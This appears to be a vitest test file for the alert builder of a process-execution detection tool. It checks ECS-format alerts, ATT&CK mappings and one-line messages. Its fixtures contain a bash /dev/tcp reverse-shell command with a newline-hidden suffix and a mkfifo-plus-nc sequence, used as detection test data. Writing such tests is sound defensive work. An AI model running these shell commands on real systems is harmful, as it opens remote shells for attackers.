import { describe, expect, it } from 'vitest';
import { buildAlert } from '../../src/alerts/index.js';
import { bundledRulesDir, loadRules, RuleSet, type RuleMatch } from '../../src/rules/index.js';
import { execEvent } from '../rules/support/exec-event.js';
import { ecsProblems } from './ecs-shape.js';

const clock = { nowMs: () => Date.UTC(2026, 0, 12, 10, 0, 1, 250) };
const { rules } = await loadRules([bundledRulesDir()]);
const set = () => new RuleSet(rules);

function seedMatch(): RuleMatch {
  const event = execEvent({
    name: 'setsid', pid: 31337, args: ['setsid', 'bash', '-c', 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1\n#hidden'],
    parent: { name: 'bash', args: ['bash'] }, user: { id: '33', name: 'www-data' }, hostName: 'web-1',
    previous: [{ args: ['bash', '-c', 'x'], executable: '/usr/bin/bash' }],
  });
  const matches = set().evaluate(event);
  expect(matches).toHaveLength(1);
  return matches[0]!;
}

function sequenceMatch(): RuleMatch {
  const parent = { name: 'sh', args: ['sh'], entityId: 'p-9' };
  const s = set();
  s.evaluate(execEvent({ name: 'mkfifo', args: ['mkfifo', '/tmp/f'], parent, sequence: 1 }));
  const matches = s.evaluate(execEvent({ name: 'nc', args: ['nc', '203.0.113.9', '4444'], parent, sequence: 2 }));
  expect(matches).toHaveLength(1);
  return matches[0]!;
}

describe('buildAlert', () => {
  it('writes the rule, its ATT&CK mapping, severity and the matched process', () => {
    const alert = buildAlert(seedMatch(), clock);
    expect(alert['@timestamp']).toBe('2026-01-12T10:00:01.250Z');
    expect(alert.event).toMatchObject({ kind: 'alert', severity: 47, risk_score: 47, category: ['process'], type: ['start'], action: 'exec' });
    expect(alert.rule).toMatchObject({
      id: '259be2d8-3b1a-4c2c-a0eb-0c8e77f35e39', uuid: '259be2d8-3b1a-4c2c-a0eb-0c8e77f35e39',
      name: 'Potential Reverse Shell via Background Process', author: ['execwarden'], license: 'Apache-2.0',
      version: '2026/01/12', ruleset: 'execwarden', reference: 'https://www.gnu.org/software/bash/manual/html_node/Redirections.html',
    });
    expect(alert.threat).toEqual({
      framework: 'MITRE ATT&CK',
      tactic: { id: ['TA0002', 'TA0011'], name: ['Execution', 'Command and Control'], reference: ['https://attack.mitre.org/tactics/TA0002/', 'https://attack.mitre.org/tactics/TA0011/'] },
      technique: {
        id: ['T1059', 'T1095'], name: ['Command and Scripting Interpreter', 'Non-Application Layer Protocol'],
        reference: ['https://attack.mitre.org/techniques/T1059/', 'https://attack.mitre.org/techniques/T1095/'],
        subtechnique: { id: ['T1059.004'], name: ['Unix Shell'], reference: ['https://attack.mitre.org/techniques/T1059/004/'] },
      },
    });
    expect(alert.process).toMatchObject({ pid: 31337, name: 'setsid', parent: { name: 'bash' } });
    expect(alert.user).toEqual({ id: '33', name: 'www-data' });
    expect(alert.host).toMatchObject({ name: 'web-1', os: { type: 'linux' } });
    expect(alert.execwarden).toBeUndefined();
  });

  it('says what happened in one line', () => {
    const { message } = buildAlert(seedMatch(), clock);
    expect(message).toBe('Potential Reverse Shell via Background Process: setsid (pid 31337) started by bash as www-data on web-1 ran "setsid bash -c bash -i >& /dev/tcp/127.0.0.1/9 0>&1\\n#hidden".');
    expect(message).not.toMatch(/[\n\r]/);
  });

  it('does not share objects with the matched event', () => {
    const match = seedMatch();
    const alert = buildAlert(match, clock);
    (alert.process as { name: string }).name = 'changed';
    expect((match.events[0]!.process as { name: string }).name).toBe('setsid');
  });

  it('carries every event of a sequence and takes its fields from the last', () => {
    const alert = buildAlert(sequenceMatch(), clock);
    expect(alert.rule.name).toBe('Named Pipe Followed by a Network Tool');
    expect(alert.process).toMatchObject({ name: 'nc' });
    expect(alert.execwarden?.sequence?.events.map((e) => (e.process as { name: string }).name)).toEqual(['mkfifo', 'nc']);
    expect(alert.execwarden?.sequence?.join_keys).toHaveLength(2);
  });

  it('uses only ECS fields of the right type, apart from the execwarden namespace', () => {
    for (const alert of [buildAlert(seedMatch(), clock), buildAlert(sequenceMatch(), clock)]) {
      expect(ecsProblems(alert as unknown as Record<string, unknown>, ['execwarden'])).toEqual([]);
    }
  });

  it('has a validator that does catch non-ECS fields and wrong types', () => {
    expect(ecsProblems({ event: { severity: 'high', kind: 'alert' }, rule: { nonsense: 'x' }, process: { args: 'not-an-array-but-ok' }, message: ['a'] }))
      .toEqual(['event.severity: "high" is not long', 'rule.nonsense: not an ECS field', 'message: ECS does not expect an array']);
  });
});
